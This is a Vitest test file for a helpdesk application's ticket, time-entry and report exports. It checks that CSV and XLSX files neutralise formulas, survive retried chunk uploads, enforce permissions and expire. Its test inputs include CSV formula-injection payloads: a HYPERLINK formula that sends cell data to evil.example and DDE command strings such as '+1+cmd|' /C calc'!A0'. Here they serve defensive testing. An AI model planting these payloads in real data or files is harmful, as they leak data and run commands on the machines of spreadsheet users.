import { env } from "cloudflare:workers";
import Papa from "papaparse";
import * as XLSX from "xlsx";
import { beforeAll, describe, expect, it } from "vitest";
import { callerContext } from "../../src/contexts";
import type { Actor } from "../../src/domain/permissions";
import { exportHousekeeping } from "../../src/features/exports/exports.jobs";
import { createExport } from "../../src/features/exports/exports.service";
import { MAX_CELL_CHARS } from "../../src/lib/xlsx";
import { api, BASE, expectProblem, makeStaff, type TestUser } from "../helpers";
import { openTicket } from "../tickets/fixtures";
import { drainJobs, jobsEnv } from "../reports/support";
import { download, finished, wholeList } from "./support";

const actorOf = (u: TestUser): Actor => ({ id: u.id, name: u.name, email: u.email, role: u.role });
const HOSTILE_SUBJECTS = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\tleading tab", "\rleading CR", 'comma, "quote"', "ünïcödé ✓"];
const NOTE = `internal-${crypto.randomUUID()}`;

let s: Awaited<ReturnType<typeof makeStaff>>;
let otherManager: TestUser;
const category = `cat-${crypto.randomUUID().slice(0, 8)}`;

beforeAll(async () => {
  s = await makeStaff();
  otherManager = await (await import("../helpers")).makeUser("manager");
  for (const subject of HOSTILE_SUBJECTS) {
    const t = await openTicket(s.customer, { subject, category, priority: "high" });
    await api("POST", `/api/v1/tickets/${t.id}/comments`, { token: s.agent.token, body: { body: `note ${NOTE}`, internal: true } });
  }
  for (let i = 0; i < 12; i++) await openTicket(s.customer2, { subject: `plain ${i}`, category });
}, 120_000);

const csvRows = (bytes: Uint8Array) => {
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 byte order mark
  const text = new TextDecoder("utf-8", { ignoreBOM: true, fatal: true }).decode(bytes);
  const parsed = Papa.parse<Record<string, string>>(text.slice(1), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return { rows: parsed.data, text };
};
const unneutralise = (s: string) => (/^'[=+\-@\t\r]/.test(s) ? s.slice(1) : s);

describe("exports: CSV and XLSX through the queue into R2", () => {
  it("a CSV of a filtered list parses back to exactly the list: same tickets, same order, same values; formulas neutralised; no internal note", async () => {
    const res = await api("POST", "/api/v1/exports", { token: s.manager.token, body: { kind: "tickets", format: "csv", filters: { category, sort: "created_at" } } });
    expect(res.status).toBe(202);
    expect(res.body).toMatchObject({ status: "queued", progress: { rows_done: 0 }, download_url: null });
    const job = await finished(s.manager, res.body.id);
    expect(job.status).toBe("done");
    expect(job.progress).toEqual({ rows_done: 20, rows_estimated: 20 });
    const file = await download(s.manager, job.id);
    expect(file.status).toBe(200);
    expect(file.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(file.headers.get("content-disposition")).toMatch(/^attachment; filename="tickets-\d{4}-\d{2}-\d{2}\.csv"$/);
    const { rows, text } = csvRows(file.bytes);
    const list = await wholeList(s.manager, `&category=${category}&sort=created_at`);
    expect(rows.map((r) => r.id)).toEqual(list.map((t) => t.id));
    rows.forEach((r, i) => {
      const t = list[i]!;
      expect(unneutralise(r.subject!)).toBe(t.subject);
      expect(r.number).toBe(t.number);
      expect(r.status).toBe(t.status);
      expect(r.priority).toBe(t.priority);
      expect(r.requester_email).toBe(t.requester.email);
      expect(r.created_at).toBe(t.created_at);
      // A spreadsheet would not evaluate any cell of the file.
      for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
    expect(rows.find((r) => r.subject!.startsWith("'=HYPERLINK"))).toBeDefined();
    expect(text).not.toContain(NOTE);
    // CRLF records (RFC 4180).
    expect(text.split("\r\n").length).toBeGreaterThan(20);
  });

  it("an XLSX opens in a reader (SheetJS) with the list's rows, text cells never formulas", async () => {
    const res = await api("POST", "/api/v1/exports", { token: s.manager.token, body: { kind: "tickets", format: "xlsx", filters: { category, sort: "created_at" }, columns: ["number", "subject", "priority", "created_at", "time_spent_minutes", "sla_breached"] } });
    const job = await finished(s.manager, res.body.id);
    const file = await download(s.manager, job.id);
    expect(file.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    const wb = XLSX.read(file.bytes, { type: "array", cellDates: true, cellFormula: true });
    const sheet = wb.Sheets[wb.SheetNames[0]!]!;
    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet, { defval: null });
    const list = await wholeList(s.manager, `&category=${category}&sort=created_at`);
    expect(rows.map((r) => r.number)).toEqual(list.map((t) => t.number));
    expect(rows.map((r) => r.subject)).toEqual(list.map((t) => t.subject));
    // Date cells are Excel serial numbers (days): read back within a millisecond.
    rows.forEach((r, i) => expect(Math.abs((r.created_at as Date).getTime() - Date.parse(list[i]!.created_at))).toBeLessThanOrEqual(1));
    expect(rows.every((r) => r.time_spent_minutes === 0 && r.sla_breached === false)).toBe(true);
    expect(Object.keys(rows[0]!)).toEqual(["number", "subject", "priority", "created_at", "time_spent_minutes", "sla_breached"]);
    for (const cell of Object.values(sheet)) if (cell && typeof cell === "object" && "t" in cell) expect((cell as { f?: unknown }).f).toBeUndefined();
    expect(JSON.stringify(rows)).not.toContain(NOTE);
  });

  it("a chunk retried midway (its parts uploaded, the step not recorded) or delivered twice writes no row twice and loses none", async () => {
    // Enough data for several 5 MiB parts (R2's minimum, all parts but the last of one size) even
    // compressed: descriptions of 50,000 random CJK characters (~150 KB each, hardly compressible).
    const big = `big-${crypto.randomUUID().slice(0, 8)}`;
    const cjk = () => Array.from({ length: 50_000 }, () => String.fromCharCode(0x4e00 + Math.floor(Math.random() * 20_000))).join("");
    for (let i = 0; i < 90; i++) await openTicket(s.customer, { subject: `big ${i}`, category: big, description: cjk() });
    const jobs = jobsEnv({ EXPORT_CHUNK_ROWS: "4" });
    // The first time each step saves its carried bytes it fails, after uploading its parts: the
    // queue retries the message, which must start again from the recorded state.
    const failedOnce = new Set<string>();
    const bucket = jobs.env.EXPORTS;
    jobs.env.EXPORTS = new Proxy(bucket, {
      get(target, prop) {
        if (prop === "put")
          return async (key: string, value: unknown) => {
            if (!failedOnce.has(key)) {
              failedOnce.add(key);
              throw new Error("injected: R2 put failed");
            }
            return target.put(key, value as never);
          };
        const v = Reflect.get(target, prop);
        return typeof v === "function" ? v.bind(target) : v;
      },
    });
    const list = await wholeList(s.manager, `&category=${big}&sort=created_at`);
    for (const format of ["csv", "xlsx"] as const) {
      failedOnce.clear();
      const ctx = callerContext(jobs.env, actorOf(s.manager), { ip: null, userAgent: "test" }, { now: new Date() });
      const job = await createExport(ctx, { kind: "tickets", format, filters: { category: big, sort: "created_at" }, columns: ["id", "subject", "description"] }, BASE);
      // Every step's message is also delivered a second time: a stale duplicate, dropped.
      const seen = new Set<string>();
      await drainJobs(jobs, async () => {
        const next = jobs.sent[0] as { id: string; step: number } | undefined;
        if (next && !seen.has(`${next.id}:${next.step}`)) {
          seen.add(`${next.id}:${next.step}`);
          jobs.sent.push({ ...next });
        }
      });
      expect(failedOnce.size, format).toBeGreaterThan(1); // steps did fail midway
      const done = await finished(s.manager, job.id);
      expect(done.status).toBe("done");
      // Several 5 MiB parts: ~13 MB of CSV; the XLSX's deflate takes it to ~6.5 MB, still two parts.
      expect(done.size).toBeGreaterThan((format === "csv" ? 2 : 1) * 5 * 1024 * 1024);
      const file = await download(s.manager, job.id);
      const rows =
        format === "csv"
          ? csvRows(file.bytes).rows
          : XLSX.utils.sheet_to_json<Record<string, string>>(XLSX.read(file.bytes, { type: "array" }).Sheets.Tickets!);
      expect(rows.map((r) => r.id)).toEqual(list.map((t) => t.id));
      // A cell holds at most 32,767 characters in Excel: the XLSX cuts longer text there, the CSV keeps it whole.
      expect(rows.map((r) => r.description)).toEqual(list.map((t) => (format === "csv" ? t.description : t.description.slice(0, MAX_CELL_CHARS))));
      expect(done.progress.rows_done).toBe(list.length);
    }
  }, 600_000);

  it("time entries and satisfaction answers export too; the agents report as one sheet", async () => {
    const t = await openTicket(s.customer, { subject: "timed", category });
    expect((await api("POST", `/api/v1/tickets/${t.id}/time-entries`, { token: s.agent.token, body: { minutes: 25, note: "=cmd|calc", billable: false } })).status).toBe(201);
    const time = await finished(s.manager, (await api("POST", "/api/v1/exports", { token: s.manager.token, body: { kind: "time_entries", format: "csv", filters: { ticket_id: t.id } } })).body.id);
    const { rows } = csvRows((await download(s.manager, time.id)).bytes);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ ticket_id: t.id, ticket_number: t.number, author_id: s.agent.id, minutes: "25", billable: "false", note: "'=cmd|calc" });
    const agents = await finished(s.manager, (await api("POST", "/api/v1/exports", { token: s.manager.token, body: { kind: "agents_report", format: "xlsx" } })).body.id);
    const sheet = XLSX.read((await download(s.manager, agents.id)).bytes, { type: "array" }).Sheets.Agents!;
    const agentRows = XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet);
    expect(agentRows.find((r) => r.agent_id === s.agent.id)).toMatchObject({ time_spent_minutes: 25 });
    const sat = await finished(s.manager, (await api("POST", "/api/v1/exports", { token: s.manager.token, body: { kind: "satisfaction", format: "csv", filters: { score: 5 } } })).body.id);
    expect(sat.status).toBe("done");
  });

  it("is for managers and admins; another's export is 404 to another manager, 403 to an agent and a customer (any id); admins see all", async () => {
    const res = await api("POST", "/api/v1/exports", { token: s.manager.token, body: { kind: "tickets", format: "csv", filters: { category } } });
    await finished(s.manager, res.body.id);
    for (const [user, status, code] of [[s.agent, 403, "FORBIDDEN"], [s.customer, 403, "FORBIDDEN"], [otherManager, 404, "NOT_FOUND"]] as const) {
      expectProblem(await api("GET", `/api/v1/exports/${res.body.id}`, { token: user.token }), status, code);
      // The same answer as for an id that does not exist: nothing tells them it does.
      expectProblem(await api("GET", "/api/v1/exports/no-such-export", { token: user.token }), status, code);
      const file = await download(user, res.body.id);
      expect(file.status).toBe(status);
      expect(new TextDecoder().decode(file.bytes)).not.toContain(HOSTILE_SUBJECTS[7]!);
    }
    for (const user of [s.agent, s.customer]) {
      expectProblem(await api("POST", "/api/v1/exports", { token: user.token, body: { kind: "tickets", format: "csv" } }), 403, "FORBIDDEN");
      expectProblem(await api("GET", "/api/v1/exports", { token: user.token }), 403, "FORBIDDEN");
    }
    expect((await api("GET", `/api/v1/exports/${res.body.id}`, { token: s.admin.token })).status).toBe(200);
    expect((await download(s.admin, res.body.id)).status).toBe(200);
    const mine = await api("GET", "/api/v1/exports?limit=100", { token: s.manager.token });
    expect(mine.body.data.map((e: { id: string }) => e.id)).toContain(res.body.id);
    expect((await api("GET", "/api/v1/exports?limit=100", { token: otherManager.token })).body.data).toEqual([]);
  });

  it("refuses bad requests with a 400 naming the field, and creates nothing", async () => {
    const bad = [
      [{ kind: "users", format: "csv" }, "kind"],
      // The privacy export is made by GET /users/{id}/export only, and only as JSON.
      [{ kind: "user", format: "csv", filters: { user_id: s.customer.id } }, "kind"],
      [{ kind: "tickets", format: "pdf" }, "format"],
      [{ kind: "tickets", format: "csv", filters: { status: "nope" } }, "filters.status"],
      [{ kind: "tickets", format: "csv", filters: { sort: "DROP TABLE" } }, "filters.sort"],
      [{ kind: "tickets", format: "csv", filters: { priorty: "high" } }, "filters._"],
      [{ kind: "tickets", format: "csv", columns: ["subject", "password_hash"] }, "columns"],
      [{ kind: "time_entries", format: "csv", filters: { from: "yesterday" } }, "filters.from"],
    ] as const;
    const before = (await env.DB.prepare("SELECT count(*) AS n FROM exports").first<{ n: number }>())!.n;
    for (const [body, field] of bad) {
      const res = await api("POST", "/api/v1/exports", { token: s.manager.token, body });
      expectProblem(res, 400, "VALIDATION_ERROR");
      expect(Object.keys(res.body.errors).some((k) => k === field || k.startsWith(`${field}.`)), `${JSON.stringify(body)} → ${JSON.stringify(res.body.errors)}`).toBe(true);
    }
    expect((await env.DB.prepare("SELECT count(*) AS n FROM exports").first<{ n: number }>())!.n).toBe(before);
  });

  it("at most 3 unfinished exports per person (429 with Retry-After)", async () => {
    const jobs = jobsEnv();
    const m = await (await import("../helpers")).makeUser("manager");
    const ctx = callerContext(jobs.env, actorOf(m), { ip: null, userAgent: "test" }, { now: new Date() });
    for (let i = 0; i < 3; i++) await createExport(ctx, { kind: "tickets", format: "csv" }, BASE);
    const res = await api("POST", "/api/v1/exports", { token: m.token, body: { kind: "tickets", format: "csv" } });
    expectProblem(res, 429, "RATE_LIMITED");
    expect(res.headers.get("retry-after")).toBe("60");
  });

  it("files expire after 7 days (cron): the file is deleted and the download is 404", async () => {
    const res = await api("POST", "/api/v1/exports", { token: s.manager.token, body: { kind: "tickets", format: "csv", filters: { category } } });
    const job = await finished(s.manager, res.body.id);
    expect(Date.parse(job.expires_at) - Date.parse(job.finished_at)).toBe(7 * 86_400_000);
    await exportHousekeeping(env as never, new Date(Date.parse(job.finished_at) + 6 * 86_400_000));
    expect((await download(s.manager, job.id)).status).toBe(200);
    await exportHousekeeping(env as never, new Date(Date.parse(job.expires_at) + 1000));
    expect((await api("GET", `/api/v1/exports/${job.id}`, { token: s.manager.token })).body.status).toBe("expired");
    expect((await download(s.manager, job.id)).status).toBe(404);
    expect((await env.EXPORTS.list({ prefix: `exports/${job.id}/` })).objects).toEqual([]);
  });
});
